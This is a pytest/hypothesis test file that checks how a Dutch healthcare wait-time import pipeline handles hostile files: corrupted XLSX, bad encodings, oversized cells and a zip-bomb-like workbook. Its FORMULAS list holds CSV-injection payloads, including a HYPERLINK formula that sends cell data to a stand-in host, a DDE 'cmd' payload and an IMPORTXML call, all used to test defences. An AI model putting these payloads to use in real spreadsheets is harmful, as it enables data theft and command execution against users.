"""Hostile provider files through the import pipeline (hypothesis, bounded): every one ends in a clear report
or a rejection, never an exception; the catalogue is unchanged; memory stays bounded."""

import io
import resource
import zipfile

import psutil
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import text

from tests import factories
from tests.fixtures import offer_workbook
from waitinfo.imports.service import run_import

HEADER = "Vestiging;Postcode;Plaats;Zorgvorm;Diagnosegroep;Aanmeldwachttijd;Behandelwachttijd;Peildatum"
XLSX = offer_workbook()
STATUSES = {"applied", "rejected", "failed", "unchanged", "dry_run"}
BOUNDED = settings(
    max_examples=8,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
CATALOGUE = [
    "organization",
    "location",
    "service",
    "service_at_location",
    "service_need",
    "service_area",
    "wait_time",
    "intake_stop",
    "schedule",
    "service_capacity",
]
FINGERPRINT = " union all ".join(f"select '{t}', count(*) from {t}" for t in CATALOGUE)


def catalogue(db) -> dict:
    return dict(db.execute(text(FINGERPRINT)).all())


@pytest.fixture
def org(db):
    return factories.organization(db, "Vijandig Bestand (fictief)", kind="specialist_ggz")


def _run(db, org, raw: bytes, source: str, kind=None, memory_limit_mb: float = 150):
    """Import and check the general promises: a report, Dutch explanation when nothing applied, bounded memory."""
    # The process's peak RSS after the run bounds the peak during it (no tracing overhead).
    rss_before = psutil.Process().memory_info().rss
    report = run_import(db, organization_name_or_id=org.slug, raw=raw, source=source, kind=kind)
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 - rss_before
    assert report.status in STATUSES
    if report.status in ("rejected", "failed"):
        assert report.message or report.errors, "a rejection must say why"
        text_out = report.message + " ".join(e.message for e in report.errors)
        assert "Traceback" not in text_out and "Error(" not in text_out
    assert peak / 1e6 < memory_limit_mb, f"peak {peak / 1e6:.0f} MB for a {len(raw) / 1e6:.1f} MB file"
    return report


@BOUNDED
@given(junk=st.binary(min_size=0, max_size=4096))
def test_binary_junk_is_rejected(db, org, junk):
    before = catalogue(db)
    report = _run(db, org, junk, "rommel.bin")
    assert report.rows_applied == 0
    assert catalogue(db) == before


@BOUNDED
@given(cut=st.integers(min_value=0, max_value=len(XLSX) - 1), flip=st.booleans())
def test_truncated_or_corrupted_xlsx_is_rejected(db, org, cut, flip):
    if flip:  # bytes flipped in the middle, length kept: may still read (zip has a central directory)
        raw = XLSX[:cut] + bytes(b ^ 0xFF for b in XLSX[cut : cut + 64]) + XLSX[cut + 64 :]
    else:  # cut short: never readable
        raw = XLSX[:cut]
    before = catalogue(db)
    report = _run(db, org, raw, "aanbod.xlsx")
    if not flip:
        assert report.status in ("rejected", "failed") and report.rows_applied == 0
    if report.rows_applied == 0:
        assert catalogue(db) == before


@BOUNDED
@given(
    encoding=st.sampled_from(["utf-16", "utf-32", "cp037", "utf-7", "shift_jis"]),
    town=st.sampled_from(["Almelo", "Enschedé", "Hengelo (Ov)", "Ootmarsum"]),
)
def test_wrong_encodings_end_in_a_report(db, org, encoding, town):
    body = f"{HEADER}\r\nLocatie Ä;7607 GH;{town};Basis-ggz;;3;4;15-10-2026\r\n"
    try:
        raw = body.encode(encoding)
    except UnicodeEncodeError:
        raw = body.encode(encoding, errors="replace")
    before = catalogue(db)
    report = _run(db, org, raw, "wachttijden.csv")
    if report.status != "applied":
        assert catalogue(db) == before


@BOUNDED
@given(
    size=st.sampled_from([70_000, 1_000_000, 5_000_000]), where=st.sampled_from(["Vestiging", "Zorgvorm", "Aanmeld"])
)
def test_huge_cells_are_refused_per_row_or_file(db, org, size, where):
    huge = "x" * size
    cells = ["Locatie A", "7607 GH", "Almelo", "Basis-ggz", "", "3", "4", "15-10-2026"]
    cells[{"Vestiging": 0, "Zorgvorm": 3, "Aanmeld": 5}[where]] = huge
    raw = f"{HEADER}\r\n{';'.join(cells)}\r\n".encode()
    before = catalogue(db)
    report = _run(db, org, raw, "groot.csv")
    assert report.status in ("rejected", "failed")
    assert catalogue(db) == before
    # the report does not echo megabytes back at the user
    assert len(report.message) + sum(len(e.message) for e in report.errors) < 5_000


FORMULAS = [
    '=HYPERLINK("https://kwaad.example/?d="&A1;"klik")',
    "=1+2",
    "+31 6 1234",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    '=IMPORTXML(CONCAT("https://x.example/?",A1),"//a")',
]


@BOUNDED
@given(formula=st.sampled_from(FORMULAS), column=st.sampled_from([0, 3, 4, 5]))
def test_formulas_never_become_live_in_exports(db, org, formula, column):
    from waitinfo.core.export import csv_bytes, safe_cell

    cells = ["Locatie A", "7607 GH", "Almelo", "Basis-ggz", "", "3", "4", "15-10-2026"]
    cells[column] = formula.replace(";", ",")
    raw = f"{HEADER}\r\n{';'.join(cells)}\r\n".encode()
    report = _run(db, org, raw, "formules.csv")
    stored = db.execute(
        text(
            "select l.name, s.name from service_at_location sal join location l on l.id = sal.location_id "
            "join service s on s.id = sal.service_id where s.organization_id = :o"
        ),
        {"o": org.id},
    ).all()
    for values in stored:
        for value in values:
            out = safe_cell(value)
            assert not str(out).startswith(("=", "+", "-", "@", "\t", "\r")), out
    exported = csv_bytes(["naam"], [[v] for row in stored for v in row]).decode("utf-8-sig")
    for line in exported.splitlines()[1:]:
        assert not line.lstrip('"').startswith(("=", "+", "-", "@")), line
    assert report.status in STATUSES


@pytest.mark.parametrize("filler", ["", ";;;;;;;", " ", '"";""'])
def test_a_million_empty_rows(db, org, filler):
    raw = (HEADER + "\r\n" + (filler + "\r\n") * 1_000_000).encode()
    before = catalogue(db)
    report = _run(db, org, raw, "leeg.csv", memory_limit_mb=400)
    assert report.rows_applied == 0 and report.status in ("rejected", "failed", "unchanged", "applied")
    assert catalogue(db) == before


def test_zip_bomb_like_xlsx_is_bounded(db, org):
    """An XLSX whose sheet inflates to ~140 MB of empty cells: refused before it is read, memory bounded."""
    buf = io.BytesIO()
    with zipfile.ZipFile(XLSX and io.BytesIO(XLSX)) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename.startswith("xl/worksheets/sheet1"):
                head, _, _ = data.partition(b"<sheetData>")
                rows = b"".join(
                    b'<row r="%d"><c r="A%d" t="inlineStr"><is><t></t></is></c></row>' % (i, i)
                    for i in range(2, 2_000_000)
                )
                data = head + b"<sheetData>" + rows + b"</sheetData></worksheet>"
            dst.writestr(item, data)
    raw = buf.getvalue()
    assert len(raw) < 15_000_000  # ~10 MB on disk, ~140 MB unpacked
    before = catalogue(db)
    report = _run(db, org, raw, "bom.xlsx", kind="offer", memory_limit_mb=400)
    assert report.rows_applied == 0 and report.status == "rejected"
    assert "te groot" in report.message + " ".join(e.message for e in report.errors)
    assert catalogue(db) == before
